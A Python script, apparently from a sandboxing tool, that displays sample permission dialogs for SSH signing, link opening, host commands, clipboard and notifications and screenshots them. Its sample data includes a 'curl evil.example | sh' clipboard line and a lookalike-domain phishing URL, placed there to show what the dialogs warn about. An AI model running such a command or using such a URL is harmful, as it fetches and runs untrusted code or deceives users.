"""Takes a picture of a window of each kind, side by side: `windows_picture.py FILE`. For tools/windows-picture."""

import sys
from functools import partial

import attrs
import trio
from asyncssh.packet import String

sys.path.insert(0, "tests")

from support.display import Display, virtual_display

from litterbox.agent.binding import Binding
from litterbox.agent.identities import Identity
from litterbox.agent.purpose import Login, Sshsig, Unrecognised
from litterbox.agent.questions import Requester, about_list, about_signing
from litterbox.agent.requests import SignRequest
from litterbox.agent.words import HostNames
from litterbox.capabilities.xdg_open.link import read
from litterbox.capabilities.xdg_open.request import question as about_link
from litterbox.confirm import zenity
from litterbox.confirm.question import Approval, Kind, Question
from litterbox.confirm.said import Said
from litterbox.settings.host_commands import FOLDER_WARNING

SCREEN = (1690, 2150)  # pixels
COLUMNS = 2
GAP = 14  # pixels

KEY = String("ssh-ed25519") + String(b"k" * 32)
HOST = String("ssh-ed25519") + String(b"h" * 32)
HOP = String("ssh-ed25519") + String(b"j" * 32)
LAPTOP = Identity("laptop", KEY, b"me@laptop")
WORK = Identity("work-github", HOST, b"me@laptop")
NAMES = {HOST: HostNames(("git.example.org",)), HOP: HostNames((), ("build.example.org",))}
REQUEST = SignRequest(KEY, b"", 0)

BOX = Requester("work", (), lambda key: NAMES.get(key, HostNames()), "ssh git@git.example.org")
FORWARDED = attrs.evolve(BOX, hops=(Binding(HOP, b"s" * 32, forwarding=True),), program="ssh root@git.example.org")
PROVEN = Login(
    b"s" * 32,
    "dev",
    "ssh-ed25519",
    HOST,
    hostbound=True,
    bound=True,
    server=Binding(HOST, b"s" * 32, forwarding=False),
)
UNPROVEN = Login(b"s" * 32, "root", "ssh-ed25519", None, hostbound=False)

QUESTIONS = (
    attrs.evolve(about_signing(BOX, LAPTOP, REQUEST, PROVEN), waiting=5),
    about_signing(BOX, LAPTOP, REQUEST, UNPROVEN),
    about_signing(FORWARDED, LAPTOP, REQUEST, attrs.evolve(PROVEN, user="root")),
    about_list(BOX, [LAPTOP, WORK]),
    about_signing(attrs.evolve(BOX, program="git commit -S"), LAPTOP, REQUEST, Sshsig("git", "sha512")),
    about_signing(attrs.evolve(BOX, program="python3 setup.py"), LAPTOP, REQUEST, Unrecognised()),
    about_link("work", read("https://\u0430pple.com/signin?user=me", ["https"])),
    Question(
        box="work",
        action="run git on this computer, outside of the box",
        warning=FOLDER_WARNING,
        fields=(("Command", (Said("/usr/bin/git push origin main"),)), ("Folder", (Said("/home/me/project"),))),
        request=b"",
        approval=Approval("host_exec", "git", "project", allows="this command"),
        kind=Kind.HOST_COMMAND,
    ),
    Question(
        box="work",
        action="set your clipboard",
        fields=(("Type", (Said("text/plain"),)), ("Size", "31 bytes"), ("Text", (Said("curl evil.example | sh\n"),))),
        request=b"",
        kind=Kind.CLIPBOARD_SET,
    ),
    Question(
        box="work",
        action="show a notification",
        fields=(("Summary", (Said("Tests passed"),)), ("Body", (Said("412 tests in 31 s"),))),
        request=b"",
        kind=Kind.NOTIFY,
    ),
)


async def take(display: Display, path: str) -> None:
    """Show every question on the display, place the windows in columns, and leave the picture at `path`."""
    bottoms = [GAP] * COLUMNS
    async with trio.open_nursery() as nursery:
        for question in QUESTIONS:
            before = set(await display.windows("Litterbox"))
            nursery.start_soon(partial(zenity.show, question, displays=[display.environment]))
            with trio.fail_after(30):
                while not (new := set(await display.windows("Litterbox")) - before):  # noqa: ASYNC110 - X tells nobody
                    await trio.sleep(0.1)
            await trio.sleep(0.5)  # until it has its size
            [window] = new
            _width, height = await display.size(window)
            column = bottoms.index(min(bottoms))
            await display.move(window, GAP + column * (SCREEN[0] // COLUMNS), bottoms[column])
            bottoms[column] += height + GAP
        await trio.sleep(1)
        await display.screenshot(path)
        nursery.cancel_scope.cancel()


def main() -> None:
    with virtual_display(f"{SCREEN[0]}x{SCREEN[1]}x24") as display:
        trio.run(take, display, sys.argv[1])


main()
